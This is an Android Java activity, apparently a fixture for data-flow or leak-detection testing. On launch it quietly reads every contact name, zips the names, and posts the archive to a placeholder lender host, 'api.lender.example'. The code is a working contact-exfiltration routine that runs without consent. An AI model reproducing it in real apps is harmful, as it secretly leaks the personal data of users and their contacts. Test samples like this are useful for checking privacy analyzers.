package com.example.flows.zip_file;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Names are zipped into a file that is read again and posted. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        File file = new File(getFilesDir(), "names.zip");
        try {
            java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(new FileOutputStream(file));
            zip.putNextEntry(new java.util.zip.ZipEntry("names"));
            zip.write(contacts().getBytes());
            zip.close();
            FileInputStream in = new FileInputStream(new File(getFilesDir(), "names.zip"));
            byte[] buffer = new byte[4096];
            OutputStream out = new URL("https://api.lender.example/zip").openConnection().getOutputStream();
            int count;
            while ((count = in.read(buffer)) > 0) {
                out.write(buffer, 0, count);
            }
        } catch (IOException e) {
            throw new RuntimeException(e);
        }
    }
    String contacts() {
        StringBuilder names = new StringBuilder();
        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
        }
        cursor.close();
        return names.toString();
    }
}
